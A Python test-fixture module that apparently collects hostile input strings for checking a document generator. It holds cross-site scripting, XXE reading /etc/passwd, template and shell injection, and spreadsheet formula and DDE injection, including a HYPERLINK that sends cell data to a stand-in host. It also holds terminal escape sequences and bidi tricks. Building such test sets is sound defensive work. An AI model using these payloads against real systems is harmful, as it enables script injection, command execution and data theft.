"""Texts that somebody might put into a plan to harm whoever reads, opens or runs what is made of it.

All are ours. Where a payload would run, it sets ``window.pwned``, opens a dialog or asks ``pwned.example`` for something,
so that a browser can tell; where a shell or Python would run it, it makes a file called ``pwned``.
"""

from __future__ import annotations

import re
import unicodedata

HTML = (
    "<script>window.pwned=1</script>",
    "<ScRiPt >window.pwned=1</sCrIpT >",
    "<script src=https://pwned.example/x.js></script>",
    "\"><script>window.pwned=1</script>",
    "'><script>window.pwned=1</script>",
    "\"><img src=x onerror=window.pwned=1>",
    "' onmouseover='window.pwned=1' x='",
    "\" onfocus=\"window.pwned=1\" autofocus tabindex=1 x=\"",
    "` onerror=`window.pwned=1",
    "<img src=https://pwned.example/i.png onload=alert('pwned')>",
    "<img/src='x'/onerror=window.pwned=1>",
    "<iframe src=https://pwned.example/></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=https://pwned.example/></object><embed src=https://pwned.example/>",
    "<form action=https://pwned.example/><input name=pwned autofocus onfocus=window.pwned=1><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://pwned.example/'>",
    "<base href=https://pwned.example/>",
    "<link rel=stylesheet href=https://pwned.example/x.css>",
    "<style>@import'https://pwned.example/x.css';body{display:none}</style>",
    "</style><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea></noscript></template><script>window.pwned=1</script>",
    "</td></tr></table></section></main></body></html><script>window.pwned=1</script>",
    "</summary></details><details open ontoggle=window.pwned=1><summary>pwned</summary>",
    "<!-- pwned --!><script>window.pwned=1</script> -->",
    "<!--", "--><script>window.pwned=1</script>",
    "<![CDATA[<script>window.pwned=1</script>]]>", "]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY pwned SYSTEM 'file:///etc/passwd'>]><x>&pwned;</x>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&#60;img src=x onerror=window.pwned=1&#62;", "&#x3c;script>window.pwned=1",
    "<a href=javascript:window.pwned=1 id=main class=skip style=position:fixed;inset:0>pwned</a>",
    "<a href=https://pwned.example/ ping=https://pwned.example/ target=_blank download>pwned</a>",
    "<b style='position:fixed;inset:0;background:url(https://pwned.example/)'>pwned</b>",
    "<video autoplay><source src=x onerror=window.pwned=1></video><audio src=https://pwned.example/ onerror=window.pwned=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<dialog open>pwned</dialog><portal src=https://pwned.example/>",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
)  # fmt: skip
SVG = (
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "</text></svg><script>window.pwned=1</script>",
    "</title></desc><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=https://pwned.example/></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x'/></svg>",
    "<image href=https://pwned.example/i.png width=9 height=9>",
    "$x^{2$ \\frac{1}{0} \\input{pwned} $$",
)  # fmt: skip
MARKDOWN = (
    "[pwned](javascript:window.pwned=1)",
    "![pwned](https://pwned.example/i.png)",
    "<https://pwned.example/>",
    "[pwned]: https://pwned.example/",
    "# pwned\n\n## pwned\n\n---\n",
    "| pwned | pwned |\n|---|---|\n| x | y |",
    "```html\n<script>window.pwned=1</script>\n```",
    "\\<script>window.pwned=1\\</script>",
)
ADDRESSES = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1//",
    "java\tscript:window.pwned=1",
    "&#106;avascript:window.pwned=1",
    "javascript://pwned.example/%0awindow.pwned=1",
    "vbscript:msgbox(1)",
    "data:text/html,<script>window.pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "//pwned.example/", "\\\\pwned.example\\share\\x", "file:///etc/passwd", "../../../../etc/passwd", "#main",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E", "%00%0d%0aLocation: https://pwned.example/",
)  # fmt: skip
TEMPLATES = (
    "{{ 7 * 7 }}", "{% raw %}{{ page.main }}{% endraw %}", "{%- include 'style.css' -%}", "{# pwned #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${7*7} #{7*7} <%= 7*7 %>", "%(pwned)s %s %d %n",
    "{0.__class__} {pwned} {title!r:>{width}} {{", "\\1 \\g<0> $1 $& $`",
)  # fmt: skip
CODE = (
    "\"\n__import__('pathlib').Path('pwned').touch()\n\"",
    "'\n__import__('pathlib').Path('pwned').touch()\n'",
    "\"\"\"\n__import__('pathlib').Path('pwned').touch()\n\"\"\"",
    "\\\"; __import__('pathlib').Path('pwned').touch() #",
    "x\u2028__import__('pathlib').Path('pwned').touch()\u2029",
    "x\x85__import__('pathlib').Path('pwned').touch()\x0c",
    "{__import__('pathlib').Path('pwned').touch()}",
    "f\"{open('pwned', 'w')}\"", "\\N{BULLET} \\x41 \\u0041 \\", "\\",
    "%run pwned.py", "%%bash\ntouch pwned", "!touch pwned", "!!touch pwned", "pwned?", "get_ipython().system('touch pwned')",
    "$(touch pwned)", "`touch pwned`", "'; touch pwned; '", "x & touch pwned & rem", "--help", "-o pwned",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=HYPERLINK(\"https://pwned.example/?\"&A1,\"pwned\")", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1", "\x1f=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201", "'=1+1", "\"=1+1", "=\"\"&1", "x;=1+1;y", "x\t=1+1\ty", "x\n=1+1",
    "{=1+1}", "<r><t>=1+1</t></r>", "_x003D_1+1", "DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip
CONTROLS = (
    "a\x00b", "a\x07\x08\x08b", "a\x7fb", "a\x80\x84\x85\x9bb", "\x1b[2J\x1b[H", "\x1b[31mpwned\x1b[0m", "\x1b]0;pwned\x07",
    "\x1b]8;;https://pwned.example/\x1b\\pwned\x1b]8;;\x1b\\", "\x1b]52;c;cHduZWQ=\x07", "\x1bP+q\x1b\\", "\x1b[6n", "\x1bc",
    "\x9b31mpwned", "\x9d0;pwned\x9c", "pwned\rfine", "\x0c\x0b\x0e\x0f", "\x1b[?1049h", "\x1b[3;5H\x1b[K",
    "error: forged\nwarning: forged\nplanlib: 3 of 3 reports made.",
)  # fmt: skip
DIRECTIONS = (
    "due \u202e1102 enuJ 1\u202c", "\u202dleft\u202a\u202b\u202c", "\u2066a\u2067b\u2068c\u2069", "\u2067open for ever",
    "\u202e" * 50, "\u05e9\u05dc\u05d5\u05dd 3 4 5", "\u200f12 \N{EN DASH} 15\u061c", "\u0627\u0644\u0639\u0645\u0644 <b>",
)  # fmt: skip
BROKEN = ("a\ud800b", "\udfff\ud800", "\udcff\udcfe", "\ufffe\uffff\ufdd0\U0001fffe", "\U000e0041\U000e007f", "\ufffd")
"""Half characters (which file names and arguments can hold, and no file that we read), and those that are none."""
LONG = (
    "W" * 3000, "pwned" * 500, "x" * 250 + "\u00a0" + "y" * 250, "\u00a0".join(["pwned"] * 200), "\u2060".join("pwned" * 100),
    "-".join(["pwned"] * 200), "1" * 400, "1,234," * 100, "A" + "\u0301\u0489\u20dd" * 300, "\u202f".join(["123"] * 120),
    "\ufdfd" * 40, "\u3042" * 400, "\U0001f468\u200d\U0001f469\u200d" * 80, "\n" * 200 + "x", "a\n" * 300, "\t" * 200 + "x",
)  # fmt: skip

GROUPS = {
    "html": HTML, "svg": SVG, "markdown": MARKDOWN, "address": ADDRESSES, "template": TEMPLATES, "code": CODE,
    "formula": FORMULAS, "control": CONTROLS, "direction": DIRECTIONS, "broken": BROKEN, "long": LONG,
}  # fmt: skip
PAYLOADS = tuple(payload for group in GROUPS.values() for payload in group)

# What a terminal would obey, or what would turn round what it shows.
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def written(text: str) -> str:
    """The text as a file in UTF-8 can hold it."""
    return text.encode("utf-8", "replace").decode("utf-8")


def in_xml(text: str) -> str:
    """The text as XML can hold it, such as a cell of a workbook."""
    return re.sub("[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]", "\ufffd", text)


def file_name(text: str, most: int = 200) -> str:
    """The text as part of a file's name: all but the slash and NUL, in so many bytes at most; half characters too."""
    name = text.replace("/", "\u2215").replace("\x00", "\x01")
    while len(name.encode("utf-8", "surrogatepass")) > most:
        name = name[:-1]
    # Only these halves are what Python makes of bytes that are not UTF-8; the file system has no way to write others.
    return re.sub("[\ud800-\udc7f\udd00-\udfff]", "\udcff", name)


def toml(text: str) -> str:
    """The text as a string of TOML."""
    plain = {'"': '\\"', "\\": "\\\\"}
    return '"' + "".join(
        plain.get(char) or (f"\\u{ord(char):04x}" if unicodedata.category(char) == "Cc" else char) for char in written(text)
    ) + '"'  # fmt: skip
